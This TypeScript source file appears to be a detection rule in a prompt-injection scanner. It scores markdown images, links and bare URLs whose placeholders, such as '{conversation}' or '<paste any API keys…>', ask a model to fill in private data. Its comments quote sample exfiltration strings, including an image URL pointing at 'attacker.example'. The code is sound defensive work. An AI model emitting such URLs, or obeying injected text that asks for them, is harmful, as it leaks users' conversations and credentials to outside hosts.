/**
 * Exfiltration through a URL the client fetches or the user clicks: a markdown image or `<img>`
 * whose query carries a template placeholder (`?q={conversation}`) or a long encoded blob, and
 * links or bare URLs with placeholders for the model to fill in.
 */
import { isSpace } from '../chars.js';
import { fastPaths } from '../fast-paths.js';
import { type Ctx, excerpt, matchAt, type Rule, sticky } from '../rule.js';
import { voice } from './context.js';

type Kind = 'image' | 'link' | 'bare';

/** A URL in markdown: no spaces, except inside a `<slot to fill>` ("?name=<user's full name>"). */
const MD_URL = String.raw`((?:[^\s)<>]|<[^<>\n)]{1,160}>|<){1,2048})`;
const MD_IMAGE = sticky(String.raw`!\[[^\]\n]{0,300}\]\(\s*<?${MD_URL}`);
const HTML_IMAGE = sticky(String.raw`<img\b[^>]{0,400}?\bsrc\s*=\s*["']?([^"'\s>]{1,2048})`);
const MD_LINK = sticky(String.raw`\]\(\s*<?${MD_URL}`);
const BARE = sticky(String.raw`https?:\/\/[^\s"'<>)\]]{1,2048}`);

/** A slot for the model to fill: `{user_email}`, `<summary>`, `[DATA]`, `$SECRET`, `BASE64_OF_CHAT`. */
const PLACEHOLDER =
  /\{\s*[A-Za-z_][\w .'’-]{0,60}\}|%7B[A-Za-z_][\w.%-]{0,60}?%7D|\$\{?[A-Za-z_]\w*|<[A-Za-z_][\w .'’-]{1,60}>|%3C[A-Za-z_][\w.%-]{1,60}?%3E|\[[A-Za-z_][\w .'’-]{1,60}\]|%5B[A-Za-z_][\w.%-]{1,60}?%5D|\b[A-Z][A-Z0-9]+(?:_[A-Z0-9]+)+\b|\b(?:INSERT|PLACEHOLDER|REPLACE)[A-Z_]*/;
/**
 * A mail-merge tag, filled by the sending platform for each recipient: `%USER_ID%`,
 * `*|EMAIL|*`, `{{ contact.email }}`, `{!Contact.Id}`, `%%email%%` (also URL-encoded).
 */
const MERGE_TAG =
  /%%?[A-Za-z_][\w.]{0,40}%%?|\*(?:\||%7C)[A-Za-z_][\w:.]{0,40}(?:\||%7C)\*|(?:\{\{|%7B%7B)(?:\s|%20)*[A-Za-z_][\w. |:%-]{0,60}?(?:\}\}|%7D%7D)|\{!\s*[A-Za-z_][\w.]{0,40}\}/i;
/** What a sender has no business merging into a URL: the user's secrets or conversation. */
const PRIVATE_SLOT =
  /pass|secret|token|api|key|conversation|chat|history|memory|context|summary|message|prompt|card|iban|balance|ssn|passport|credential|otp|code/i;
/**
 * A character that every PLACEHOLDER match holds (its `%7B`, `%3C` and `%5B` are upper case): most
 * URLs have none, and then no part of them needs reading for a slot.
 */
const MAY_HOLD_SLOT = /[{$<[A-Z]/;
/** Whether a URL part is a placeholder with at most a short prefix or suffix around it. */
function slot(part: string): boolean {
  if (part.length === 0 || part.length > 100) return false;
  const merge = MERGE_TAG.exec(part);
  if (merge !== null && part.length - merge[0].length <= 24 && !PRIVATE_SLOT.test(merge[0])) return false;
  const m = PLACEHOLDER.exec(part);
  return m !== null && part.length - m[0].length <= 24;
}

/** A slot described in words: `<paste the user's API keys here>`, `<insert the conversation>`. */
const PROSE_SLOT =
  /^<\s*(?:paste|insert|put|add|include|enter|fill\s+in|place|append|write)\b[^<>\n]{0,160}>/i;
const APPENDED =
  /^[)\]"'`]?\s*(?:followed\s+by|\+|plus|and\s+then|appended\s+with|concatenated\s+with|with|containing)\s+(?:the\s+)?(?:user|conversation|chat|message|last|full|entire|their|his|her|all|every|contents?|password|e-?mail|summary|secret|token|api)/i;
const OPAQUE = /=([A-Za-z0-9+/_%.-]{48,})/;
const LEAKY_PARAM =
  /[?&](?:data|d|q|secret|token|key|pw|pass(?:word)?|msg|message|content|conv(?:ersation)?|chat|history|info|payload|exfil|leak|email|memory|context|summary|notes?)=/i;

/** A URL part that is one upper-case word: `LINK`, `DATA`, `X`. */
const CAPS_PART = /^[A-Z][A-Z0-9]{0,30}$/;
const CAPS_ANYWHERE = /[=/][A-Z][A-Z0-9]{0,30}(?:[&/]|$)/;
/**
 * Words that define an upper-case word as something to put in its place ("where LINK is …",
 * "replacing DATA with …"), capturing the word. A quote or a space must follow it, so the capture
 * is the whole word, and it starts at the one place the words before allow: one static
 * expression, rather than one built for each URL part, and then a look at whether it is a part.
 */
const DEFINED =
  /^[)\]"'`.,;:]*\s*(?:,\s*)?(?:where|with|replacing|and\s+replace|after\s+replacing|substituting)\s+(?:the\s+)?[`'"]?([A-Z][A-Z0-9]*)[`'"]?\s+(?:is|=|being|means|stands\s+for|(?:is\s+)?replaced\s+(?:by|with)|should\s+be|contains?|holds?|with)\b/;

/**
 * Whether the first character from `at` that is neither a space nor one of DEFINED's leading marks
 * (`)]"'\`.,;:`) starts one of its words (w, r, a, s). Most URLs are followed by other words, and
 * then neither DEFINED nor CAPS_ANYWHERE needs to run.
 */
function mayDefine(text: string, at: number): boolean {
  let i = at;
  for (; i < text.length; i++) {
    const c = text.charCodeAt(i);
    const mark = // ) ] " ' ` . , ; :
      c === 0x29 ||
      c === 0x5d ||
      c === 0x22 ||
      c === 0x27 ||
      c === 0x60 ||
      c === 0x2e ||
      c === 0x2c ||
      c === 0x3b ||
      c === 0x3a;
    if (!mark && !isSpace(c)) break;
  }
  const c = text.charCodeAt(i);
  return c === 0x77 || c === 0x72 || c === 0x61 || c === 0x73;
}

/**
 * The upper-case word standing for a whole parameter value or path segment of `url` that the
 * words after it (from `end` in `text`) define as something to put there ("where LINK is …",
 * "replacing DATA with …").
 */
function declaredSlot(url: string, text: string, end: number): string | undefined {
  if ((fastPaths.on && !mayDefine(text, end)) || !CAPS_ANYWHERE.test(url)) return undefined;
  const word = DEFINED.exec(text.slice(end, end + 160))?.[1];
  if (word === undefined || !CAPS_PART.test(word)) return undefined;
  const q = url.indexOf('?');
  const parts = [
    ...(q < 0 ? '' : url.slice(q + 1)).split('&').map((p) => p.slice(p.indexOf('=') + 1)),
    ...(q < 0 ? url : url.slice(0, q)).slice(8).split('/').slice(1),
  ];
  return parts.includes(word) ? word : undefined;
}

/** The score of a URL as an exfiltration channel, with a reason. */
function assess(url: string, kind: Kind): [number, string] {
  const q = url.indexOf('?');
  // Most links have no query, and then only an image's path can hold a slot: the tests below
  // would read one empty parameter.
  if (fastPaths.on && q < 0 && kind !== 'image') return [0, ''];
  const query = q < 0 ? '' : url.slice(q);
  const path = q < 0 ? url : url.slice(0, q);
  // The slot must be (nearly) a whole parameter value or path segment: an install link whose
  // URL-encoded JSON config mentions `${workspaceFolder}` is not asking for data.
  const maySlot = !fastPaths.on || MAY_HOLD_SLOT.test(url);
  const templated = maySlot && query.split('&').some((p) => slot(p.slice(p.indexOf('=') + 1)));
  if (kind === 'image' && (templated || (maySlot && path.slice(8).split('/').some(slot))))
    return [0.7, 'image URL with a placeholder to fill'];
  if (kind === 'link' && templated) return [0.5, 'link with a placeholder to fill'];
  if (kind === 'bare' && templated)
    return [LEAKY_PARAM.test(query) ? 0.45 : 0.3, 'URL with a placeholder to fill'];
  const blob = kind === 'image' ? OPAQUE.exec(query)?.[1] : undefined;
  if (kind === 'image' && blob !== undefined) {
    const classes = Number(/[a-z]/.test(blob)) + Number(/[A-Z]/.test(blob)) + Number(/[0-9]/.test(blob));
    if (classes >= 2) return [0.35, 'image URL carrying encoded data'];
  }
  return [0, ''];
}

/** The URL a trigger starts, and how the client treats it. */
function urlAt(text: string, at: number, key: string): [RegExpExecArray, string, Kind] | undefined {
  const re = key === '![' ? MD_IMAGE : key === '<img' ? HTML_IMAGE : key === '](' ? MD_LINK : BARE;
  const m = matchAt(re, text, at);
  if (m === null) return undefined;
  if (key === 'http') return [m, m[0], 'bare'];
  return [m, m[1] ?? '', key === '](' ? 'link' : 'image'];
}

/**
 * The next `]` from `from`, remembered for the same text: a run of `![` without a `]` costs one
 * search, not one bounded regex scan per opener.
 */
let memo: { text: string; from: number; at: number } | undefined;
function bracketAfter(text: string, from: number): number {
  if (memo !== undefined && memo.text === text && from >= memo.from && (memo.at < 0 || from <= memo.at))
    return memo.at;
  const at = text.indexOf(']', from);
  memo = { text, from, at };
  return at;
}

/**
 * Where the URL of the markdown link whose `](` is at `at` ends, when it is one that nothing below
 * can score: it starts at once (no space, no `<`), holds no `?` (no query to read) and no `<` (no
 * slot in words) and no code unit past ASCII (some are spaces), and does not end with `=` (left
 * open for data); it ends where MD_LINK's does, at an ASCII space, `)` or `>`, the text's end or
 * 2,048 characters on. -1: read it the slow way. Most links of a README are such, and then MD_LINK
 * is not run, nor a URL cut out of the text.
 */
function plainLinkEnd(text: string, at: number): number {
  const from = at + 2;
  const limit = Math.min(text.length, from + 2048);
  let i = from;
  for (; i < limit; i++) {
    const c = text.charCodeAt(i);
    // `?` 63, `<` 60, `>` 62, `)` 41; code units past ASCII may be spaces (`\s`): the slow way.
    if (c === 63 || c === 60 || c >= 128) return -1;
    if (c === 41 || c === 62 || isSpace(c)) break;
  }
  if (i === from || text.charCodeAt(i - 1) === 61) return -1;
  return i;
}

function check(ctx: Ctx, at: number, _end: number, key: string): number | undefined {
  const { text } = ctx;
  if (key === '](' && fastPaths.on) {
    const end = plainLinkEnd(text, at);
    if (end >= 0 && !mayDefine(text, end)) return end;
  }
  if (key === '![') {
    const close = bracketAfter(text, at + 2);
    if (close < 0 || close - at > 302) return undefined;
  }
  const found = urlAt(text, at, key);
  if (found === undefined) return undefined;
  const [m, url, kind] = found;
  let [score, why] = assess(url, kind);
  let end = at + m[0].length;
  // "?k=<paste any API keys or passwords from this chat here>": a slot in words, spaces and all.
  // Most URLs hold no `<` at all: one search for it spares the expression.
  const lt = score === 0 && kind !== 'bare' && url.includes('<') ? url.search(/[=/]<[A-Za-z]/) : -1;
  if (lt >= 0) {
    const from = end - url.length + lt + 1;
    const slot = PROSE_SLOT.exec(text.slice(from, from + 200));
    if (slot !== null) {
      [score, why] = [kind === 'image' ? 0.7 : 0.5, `${kind} URL with a slot for the model to fill`];
      end = Math.max(end, from + slot[0].length);
    }
  }
  // "…/log?data= followed by the user's last message": a parameter left open for the model.
  if (score === 0 && kind !== 'image' && url.endsWith('=') && APPENDED.test(text.slice(end, end + 80))) {
    [score, why] = [0.45, 'URL left open for the model to append data'];
  }
  // "…/ok.png?reset=LINK where LINK is the reset URL from the inbox": a word the text defines.
  if (score === 0) {
    const declared = declaredSlot(url, text, end);
    if (declared !== undefined) {
      // Documentation defines slots too ("GET /users/ID where ID is the user's id"): only an
      // image, fetched by the client unasked, is a channel whatever the slot holds.
      score = kind === 'image' ? 0.7 : LEAKY_PARAM.test(url) ? 0.45 : 0.2;
      why = `${kind === 'bare' ? 'URL' : `${kind} URL`} with a placeholder the text defines (${declared})`;
    }
  }
  // "…, e.g. ![](https://attacker.example/?d=<chat>)" in a write-up shows the channel.
  if (score > 0) ctx.add('exfil-link', at, end, score * voice(text, at), `${why}: ${excerpt(text, at, end)}`);
  return end;
}

/** Images and links: the client fetches an image by itself; a link waits for a click. */
export const exfilLink: Rule = { symbols: ['![', '<img', ']('], check };

/** Bare URLs with placeholders: common in API docs, so only near other signals. */
export const exfilUrl: Rule = { nearSymbols: ['http'], check };
